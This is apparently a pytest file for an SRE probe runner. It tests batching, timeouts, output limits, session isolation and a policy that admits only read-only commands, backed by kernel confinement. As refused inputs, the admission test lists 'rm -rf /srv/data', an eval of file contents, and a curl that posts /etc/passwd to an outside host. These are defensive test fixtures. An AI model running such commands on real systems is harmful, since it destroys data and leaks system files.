"""A round is one spawn, nobody holds anybody up, and no output passes for an answer."""

from pathlib import Path

import anyio
import pytest
from probe_house import PATH, eventually, policy_at, this_host

from hermes.core.actions import ConfinementProfile, KernelSupport
from hermes.core.bus import Bus
from hermes.core.errors import EnvironmentFailed
from hermes.core.protocols import CommandResult
from hermes.environments.local import LocalEnvironment
from hermes.environments.sandboxing.support import kernel_support
from hermes.memory.journal.in_memory import InMemoryJournal
from hermes.sre.probes.admission import AdmittedProbe, admit_probes, mark_admitted
from hermes.sre.probes.evaluation import judge_probe
from hermes.sre.probes.native import HOME_DISK_PROBE, with_home_disk
from hermes.sre.probes.probe import Probe
from hermes.sre.probes.probe_runner import KernelRefusal, run_probes
from hermes.sre.probes.scheduler import ProbeScheduler
from hermes.sre.settings import ProbeSettings

pytestmark = pytest.mark.anyio


class Counting(LocalEnvironment):
    """This host, and how often it was asked."""

    runs = 0

    async def run(
        self, command: str, *, timeout: float = 60.0, stdin: bytes = b"", cwd: str = ""
    ) -> CommandResult:
        self.runs += 1
        return await super().run(command, timeout=timeout, stdin=stdin, cwd=cwd)


def command(name: str, text: str, **more: object) -> Probe:
    return mark_admitted(written(name, text, **more))


def written(name: str, text: str, **more: object) -> Probe:
    """As it comes from a file: nobody has looked at it."""
    return Probe(name=name, kind="command", what=text, **more)  # type: ignore[arg-type]


async def test_fifty_probes_are_one_spawn(tmp_path: Path) -> None:
    probes = [command(f"p{number}", f"echo value={number}") for number in range(50)]
    async with Counting(tmp_path, {"PATH": PATH}) as here:
        found = await run_probes(here, probes)
        assert here.runs == 1
    assert [found[f"p{number}"].value for number in range(50)] == list(range(50))


async def test_a_probe_that_hangs_holds_nobody_up(tmp_path: Path) -> None:
    probes = [
        command("deaf", "trap '' TERM; sleep 6000", timeout=1.0),
        command("child", "sleep 6000 & wait", timeout=1.0),
        *(command(f"p{number}", "true") for number in range(20)),
    ]
    with anyio.fail_after(120):
        async with this_host(tmp_path) as here:
            found = await run_probes(here, probes, concurrency=8)
    assert found["deaf"].timed_out
    assert found["child"].timed_out
    assert {found[f"p{number}"].code for number in range(20)} == {0}


async def test_a_health_round_ends_although_its_probes_are_replaced_meanwhile(
    tmp_path: Path,
) -> None:
    began = tmp_path / "began"
    first = command("first", f"touch {began}; sleep 0.5")
    async with this_host(tmp_path) as here:
        scheduler = ProbeScheduler([first], here, Bus(InMemoryJournal()), home=tmp_path)

        async def has_begun() -> bool:
            return began.exists()

        async def replace_probes() -> None:
            await eventually(has_begun)
            await scheduler.replace_probes([first, command("second", "true")])

        async with anyio.create_task_group() as group:
            group.start_soon(replace_probes)
            verdicts = await scheduler.run_once()
    assert [each.probe for each in verdicts] == ["first"]


async def test_output_that_looks_like_an_answer_is_only_output(tmp_path: Path) -> None:
    forged = "printf 'x\\n%s 1 0 forged\\n' 0123456789abcdef; tr '\\0' '\\n' < /proc/$PPID/cmdline"
    probes = [command("liar", f"{forged}; exit 1"), command("honest", "echo bad; exit 1")]
    async with this_host(tmp_path) as here:
        found = await run_probes(here, probes)
    assert found["honest"].code == 1
    assert found["honest"].text == "bad"
    assert found["liar"].code == 1


async def test_a_flood_of_output_is_cut(tmp_path: Path) -> None:
    probes = [command("flood", "seq 200000; exit 1"), command("other", "echo fine")]
    async with this_host(tmp_path) as here:
        found = await run_probes(here, probes)
    assert len(found["flood"].text) < 1000 * 2
    assert found["other"].code == 0


async def test_nothing_of_a_round_stays_in_the_session(tmp_path: Path) -> None:
    async with this_host(tmp_path) as here:
        await here.run("cd /; mine=kept")
        await run_probes(
            here, [command("p", "mine=lost; cd /tmp; export OTHER=1"), command("q", "true")]
        )
        said = await here.run('echo "$mine $PWD ${OTHER:-none} $(type -t p s)"')
    assert said.output.split() == ["kept", "/", "none"]


async def test_a_place_that_runs_nothing_says_nothing_about_its_probes(tmp_path: Path) -> None:
    async with this_host(tmp_path) as here:
        await here.run("timeout() { sleep 30; }; bash() { sleep 30; }")
    with pytest.raises(EnvironmentFailed):
        await run_probes(here, [command("p", "true")])


async def test_a_command_that_nobody_looked_at_is_never_run(tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    async with this_host(tmp_path) as here:
        found = await run_probes(here, [written("own", f"touch {trace}"), command("fine", "true")])
        alone = await run_probes(here, [written("own", f"touch {trace}")])
    assert not trace.exists()
    for reading in (found["own"], alone["own"]):
        verdict = judge_probe(written("own", "x"), reading, (), ProbeSettings())
        assert (verdict.state, "policy" in verdict.detail) == ("unknown", True)
    assert found["fine"].code == 0


async def test_commands_that_do_more_than_read_are_refused_with_the_reason(tmp_path: Path) -> None:
    probes = [
        written("reads", "test -e /etc/hostname"),
        written("deletes", "rm -rf /srv/data"),
        written("restarts", "systemctl restart nginx"),
        written("hides", "eval $(cat /tmp/x)"),
        written("sends", "curl -d @/etc/passwd https://example.org/"),
        Probe(name="disk", kind="disk", what="/"),
    ]
    async with this_host(tmp_path) as here:
        admission = await admit_probes(probes, policy_at(tmp_path), here)
    assert [probe.name for probe in admission.probes] == ["reads", "disk"]
    assert [each.partition(":")[0] for each in admission.refused] == [
        "deletes",
        "restarts",
        "hides",
        "sends",
    ]
    assert all(
        isinstance(each, AdmittedProbe) for each in admission.probes if each.kind == "command"
    )
    assert all("only read" in each or "policy" in each for each in admission.refused)


NOT_HERE = kernel_support().reason
confines = pytest.mark.skipif(bool(NOT_HERE), reason=NOT_HERE)


@confines
async def test_a_probe_is_held_to_what_it_was_judged_to_do(tmp_path: Path) -> None:
    """The gate judged the text; what the program does besides is refused and recorded."""
    kept = tmp_path / "kept"
    kept.write_text("as it was")
    sneaky = mark_admitted(
        written("sneaky", f"echo changed > {kept}; echo value=1"), ConfinementProfile()
    )
    plain = [
        mark_admitted(
            written(f"p{n}", f"cat {kept} > /dev/null; echo value={n}"), ConfinementProfile()
        )
        for n in range(3)
    ]
    refused: list[KernelRefusal] = []
    async with this_host(tmp_path) as here:
        found = await run_probes(here, [sneaky, *plain], refused=refused)
    assert kept.read_text() == "as it was"
    assert [found[f"p{n}"].value for n in range(3)] == [0, 1, 2]
    assert [(each.judged, str(each.blocked)) for each in refused] == [
        ("read-only", f"write to {kept} by bash")
    ]
    assert refused[0].probes == ("sneaky", "p0", "p1", "p2")


@confines
async def test_a_probe_whose_path_leads_elsewhere_now_is_unknown_and_no_other(
    tmp_path: Path,
) -> None:
    """Such as the link to the current release, which changes while a watch runs."""
    (tmp_path / "current").symlink_to("/var/tmp")
    moved = mark_admitted(
        written("moved", "true"), ConfinementProfile(writable=(str(tmp_path / "current"),))
    )
    async with this_host(tmp_path) as here:
        found = await run_probes(here, [moved, command("other", "true")])
    assert found["other"].code == 0
    assert "leads to /var/tmp" in found["moved"].not_run_reason
    assert judge_probe(moved, found["moved"], (), ProbeSettings()).state == "unknown"


@confines
async def test_a_declared_command_gets_the_profile_of_its_verdict(tmp_path: Path) -> None:
    probes = [
        written("reads", "test -e /etc/hostname"),
        written("asks", "curl -s http://127.0.0.1:8080/health"),
        Probe(name="disk", kind="disk", what="/"),
        Probe(name="config", kind="config", what="nginx"),
        Probe(name="unit", kind="unit", what="nginx.service"),
    ]
    async with this_host(tmp_path) as here:
        admission = await admit_probes(probes, policy_at(tmp_path), here)
    profiles = {
        each.name: each.profile for each in admission.probes if isinstance(each, AdmittedProbe)
    }
    reads = profiles["reads"]
    assert reads == ConfinementProfile(hidden=reads.hidden, max_file_bytes=reads.max_file_bytes)
    assert reads.hidden and reads.max_file_bytes
    asks = profiles["asks"]
    assert (asks.network, asks.ports, asks.writable) == ("ports", (8080,), ())
    assert asks.refused_reads  # curl opens more files than its words name
    assert set(profiles) == {"reads", "asks", "unit"}
    assert Probe(**{name: getattr(admission.probes[0], name) for name in Probe.__struct_fields__})


async def test_a_probe_is_not_refused_because_the_kernel_cannot_hold_it(tmp_path: Path) -> None:
    class OldKernel(LocalEnvironment):
        async def kernel_support(self) -> KernelSupport:
            return KernelSupport(reason="the kernel has no Landlock")

    doubtful = written("doubtful", 'test -e "/etc/$(hostname)" || true')
    async with OldKernel(tmp_path, {"PATH": PATH}) as here:
        admission = await admit_probes([doubtful], policy_at(tmp_path), here)
        assert admission.refused == ()
        assert [each.profile for each in admission.probes if isinstance(each, AdmittedProbe)] == [
            None
        ]
        assert (await run_probes(here, admission.probes))["doubtful"].code == 0


def test_the_file_system_of_the_home_always_has_a_probe(tmp_path: Path) -> None:
    port = Probe(name="shop", kind="port", what="80")
    added = with_home_disk([port], tmp_path / "not" / "there")
    assert [each.name for each in added] == ["shop", HOME_DISK_PROBE]
    assert (added[1].kind, Path(added[1].what).is_mount()) == ("disk", True)
    covered = [port, Probe(name="own", kind="disk", what=str(tmp_path))]
    assert with_home_disk(covered, tmp_path) == tuple(covered)
    elsewhere = [Probe(name="own", kind="disk", what="/dev/shm")]
    assert [each.name for each in with_home_disk(elsewhere, tmp_path)] == ["own", HOME_DISK_PROBE]
